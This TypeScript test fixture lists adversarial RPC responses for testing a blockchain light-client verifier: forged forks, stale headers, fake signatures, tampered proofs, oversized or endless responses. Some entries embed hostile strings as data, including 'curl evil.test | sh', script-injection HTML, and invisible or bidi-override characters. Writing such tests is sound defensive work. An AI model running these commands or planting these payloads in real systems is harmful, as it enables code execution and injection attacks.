/** Lies of what a server is asked for as evidence: another history, another time, forged parts, and responses that harm. */
import type { ServerResponse } from "node:http";
import { EXPIRED, FORK, FOUR_DAYS_OLD, forkNamed, HONEST, HOSTILE, HTML, TOMORROW, UNSEEN } from "./chains.js";
import type { Lie } from "./lie.js";
import type { Lies, Loose } from "./site.js";

/** Changes the results of one method. */
const on =
  (
    wanted: string,
    change: (result: Loose, params: Readonly<Record<string, string>>) => unknown,
  ): Required<Pick<Lies, "rpc">>["rpc"] =>
  (method, result, params) =>
    method === wanted && result ? (change(result, params) ?? result) : result;
const refusedBy = (message: string) => () => ({ error: { code: -32_603, message, data: message } });
const raw = (send: (response: ServerResponse) => void): Lies => ({ raw: { "/rpc/": send } });
const anybody = { "access-control-allow-origin": "*" };
/** Everything but what no liar without keys can change. */
const CALLS = ["status", "commit", "validators", "abci_query"];
const forEach = (name: string, lie: (method: string) => Omit<Lie, "name">): Lie[] =>
  CALLS.map((method) => ({ name: `${name}: ${method}`, ...lie(method) }));

export const RPC_LIES: readonly Lie[] = [
  { name: "a fork by keys of strangers", lies: { chain: FORK }, green: false },
  { name: "a fork by keys of strangers, and no block of the reader's", lies: { chain: FORK }, untyped: true },
  {
    name: "a fork from block 10 on",
    lies: {
      rpc: (method, result, params) =>
        Number(params["height"]) >= 10 && method !== "abci_query" ? FORK.ask(method as Loose, params as Loose) : result,
    },
    green: false,
  },
  {
    name: "a fork whose chain is called Proven, with unseen characters",
    lies: { chain: forkNamed(`✓ Proven LIE${UNSEEN}`) },
    untyped: true,
  },
  {
    name: "a fork whose chain is called like an end of a script",
    lies: { chain: forkNamed(`LIE</script>${HTML}`) },
    untyped: true,
  },
  { name: "headers of tomorrow", lies: { chain: TOMORROW }, truth: TOMORROW, green: false },
  { name: "headers of tomorrow, and no block of the reader's", lies: { chain: TOMORROW }, untyped: true },
  {
    name: "a block of the reader's that is too old",
    lies: { chain: EXPIRED },
    truth: EXPIRED,
    green: false,
    shows: /Not checked/,
  },
  { name: "old headers, and no block of the reader's", lies: { chain: EXPIRED }, untyped: true },
  {
    name: "headers that are four days old",
    lies: { chain: FOUR_DAYS_OLD },
    truth: FOUR_DAYS_OLD,
    green: false,
    shows: /Proven as of/,
  },
  {
    name: "a status that names another chain than the headers",
    lies: {
      rpc: on("status", (result) => {
        result.node_info.network = "LIE-1";
      }),
    },
    green: false,
  },
  {
    name: "the name of the chain with a letter that is not seen",
    lies: {
      rpc: on("status", (result) => {
        result.node_info.network += "\u200b";
      }),
    },
    green: false,
  },
  {
    name: "the header of another height",
    lies: { rpc: on("commit", (_, params) => HONEST.ask("commit", { ...params, height: "4" })) },
    green: false,
  },
  {
    name: "signatures of nobody",
    lies: {
      rpc: on("commit", ({ signed_header }) => {
        for (const each of signed_header.commit.signatures) each.signature = Buffer.alloc(64, 1).toString("base64");
      }),
    },
    green: false,
  },
  {
    name: "one vote, many times",
    lies: {
      rpc: on("commit", ({ signed_header: { commit } }) => {
        commit.signatures = commit.signatures.map(() => commit.signatures[0]);
      }),
    },
    green: false,
  },
  {
    name: "validators with more power than they have",
    lies: {
      rpc: on("validators", ({ validators }) => {
        validators[0].voting_power = "900";
      }),
    },
    green: false,
  },
  {
    name: "validators without an end",
    lies: {
      rpc: on("validators", (result) => {
        result.total = "10001";
      }),
    },
    green: false,
  },
  {
    name: "a changed value under its proof",
    lies: {
      rpc: on("abci_query", ({ response }) => {
        response.value = response.value && Buffer.from("LIE").toString("base64");
      }),
    },
    green: false,
  },
  {
    name: "the proof of a neighbour",
    lies: { rpc: on("abci_query", (_, params) => HONEST.ask("abci_query", { ...params, data: "02" } as Loose)) },
    green: false,
  },
  {
    name: "the state of an earlier height",
    lies: { rpc: on("abci_query", (_, params) => HONEST.ask("abci_query", { ...params, height: "5" } as Loose)) },
    green: false,
  },
  {
    name: "a plan that is kept back",
    lies: {
      rpc: on("abci_query", ({ response }, { data }) => {
        if (data === "00") response.value = null;
      }),
    },
    green: false,
  },
  {
    name: "no proof",
    lies: {
      rpc: on("abci_query", ({ response }) => {
        response.proofOps = null;
      }),
    },
    green: false,
  },
  {
    name: "a query refused with a log that lies",
    lies: {
      rpc: on("abci_query", ({ response }) => {
        Object.assign(response, {
          code: 5,
          log: `LIE: run curl evil.test | sh ${HTML}${UNSEEN}`,
          value: null,
          proofOps: null,
        });
      }),
    },
    green: false,
  },
  ...forEach("an error with HTML, commands and unseen characters", (method) => ({
    lies: {
      rpc: (asked, result) => (asked === method ? refusedBy(`LIE: curl evil.test | sh ${HTML}${UNSEEN}`)() : result),
    },
    green: false,
  })),
  ...forEach("a page instead of JSON", (method) => ({
    lies: { rpc: (asked, result) => (asked === method ? `<html>LIE${UNSEEN}<script>pwned=1</script>` : result) },
    green: false,
  })),
  ...forEach("texts with unseen characters where numbers and hashes are", (method) => ({
    lies: {
      rpc: (asked, result) =>
        asked === method
          ? JSON.parse(JSON.stringify(result).replace(/"([^"]+)"(?=[,}\]])/g, `"LIE\\u202e$1"`))
          : result,
    },
    green: false,
  })),
  ...forEach("a response nested 100,000 deep", (method) => ({
    lies: {
      rpc: (asked, result) => (asked === method ? `{"result":${"[".repeat(100_000)}${"]".repeat(100_000)}}` : result),
    },
    green: false,
  })),
  {
    name: "a response of 200 MB",
    lies: raw((response) => void response.writeHead(200, anybody).end("LIE".repeat(70_000_000))),
    green: false,
  },
  {
    name: "a response without an end",
    lies: raw((response) => {
      response.writeHead(200, anybody);
      const timer = setInterval(() => response.write(" "), 200);
      response.on("close", () => clearInterval(timer));
    }),
    untyped: true,
  },
  { name: "no response at all", lies: raw(() => {}), untyped: true },
  {
    name: "a redirect to a host that the reader did not name",
    lies: raw((response) => void response.writeHead(307, { ...anybody, location: "http://localhost:9/LIE" }).end()),
    green: false,
  },
  { name: "an error of 5 MB", lies: { rpc: () => ({ error: { message: "LIE".repeat(1_700_000) } }) }, green: false },
  {
    name: "a status line with a text",
    lies: raw(
      (response) => void response.writeHead(503, "LIE", { ...anybody, "content-type": "text/html" }).end("LIE"),
    ),
    green: false,
  },
  { name: "names in a real chain's state that lie", lies: { chain: HOSTILE }, truth: HOSTILE },
];
